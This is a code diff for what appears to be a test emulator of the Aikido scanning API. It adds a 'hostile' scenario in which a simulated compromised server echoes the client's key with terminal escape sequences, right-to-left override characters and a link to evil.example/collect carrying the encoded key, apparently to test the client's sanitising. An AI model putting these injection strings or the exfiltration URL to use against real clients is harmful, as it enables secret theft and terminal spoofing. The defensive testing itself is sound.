@@ -47,6 +47,9 @@ class Scenario:
     # What GET …/scan/<id>/introducedSastIssues answers, and outcome.human_readable_message.
     sast_issues: tuple[dict[str, Any], ...] = ()
     message: str | None = None
+    # Echo the key it was sent, in several spellings, with terminal escapes and bidi controls,
+    # into every text of its answers, and link to another host: what a compromised server would do.
+    hostile: bool = False
 
 
 FAIL_SAST_ISSUES = (
@@ -86,8 +89,21 @@ SCENARIOS = {
         Scenario("timeout", polls_until_complete=None),
         Scenario("default-branch", gate_passed=False, default_branch_shape=True),
         Scenario("html-login", html_login=True),
+        Scenario("hostile", gate_passed=False, new_issues={"sast": 1}, hostile=True),
     )
 }
+
+
+def hostile_texts(key: str) -> dict[str, str]:
+    """Texts a compromised server answers with: the key in several spellings, escapes, bidi and bell."""
+    encoded = "".join(f"%{byte:02x}" for byte in key.encode())
+    return {
+        "message": f"**Bad news** \x1b[31m{key}\x1b[0m \x1b]8;;https://evil.example\x07click\x1b]8;;\x07 "
+        f"{key.lower()} \u202eexe.txt\x07\nsecond line {encoded}",
+        "diff_url": f"https://app.aikido.dev/featurebranch/scan/1?key={key}",
+        "foreign_url": f"https://evil.example/collect?k={encoded}",
+        "title": f"Leaked {key.upper()} \x1b[2J\u202e",
+    }
 
 
 @dataclass
@@ -247,8 +263,24 @@ class AikidoEmulator:
             "group_id": 1,
             "start_commit_id": body["base_commit_id"],
             "end_commit_id": body["head_commit_id"],
-            "introduced_sast_issues": list(self.scenario.sast_issues),
+            "introduced_sast_issues": list(self.scenario.sast_issues) or self._hostile_issues(),
         }
+
+    def _hostile_issues(self) -> list[dict[str, Any]]:
+        if not self.scenario.hostile:
+            return []
+        texts = hostile_texts(self.secret)
+        return [
+            {
+                "file": "src/app.py",
+                "start_line": 12,
+                "end_line": 12,
+                "snippet_hash": "beef",
+                "title": texts["title"],
+                "description": texts["message"],
+                "remediation": f"Rotate {self.secret}.",
+            }
+        ]
 
     def _next_fault(self, kind: str) -> int | None:
         with self._lock:
@@ -280,6 +312,18 @@ class AikidoEmulator:
             }
         counts = {kind: scenario.new_issues.get(kind, 0) for kind in ("dependency", "sast", "iac", "leaked_secret")}
         outcome = {"outcome": {"human_readable_message": scenario.message}} if scenario.message else {}
+        if scenario.hostile:
+            texts = hostile_texts(self.secret)
+            return {
+                "all_scans_completed": True,
+                **progress,
+                "outcome": {"human_readable_message": texts["message"]},
+                "new_issues_found": 1,
+                "new_sast_issues_found": 1,
+                "diff_url": texts["foreign_url"],
+                "issue_links": [texts["diff_url"], texts["foreign_url"]],
+                "gate_passed": False,
+            }
         return {
             "all_scans_completed": True,
             **progress,
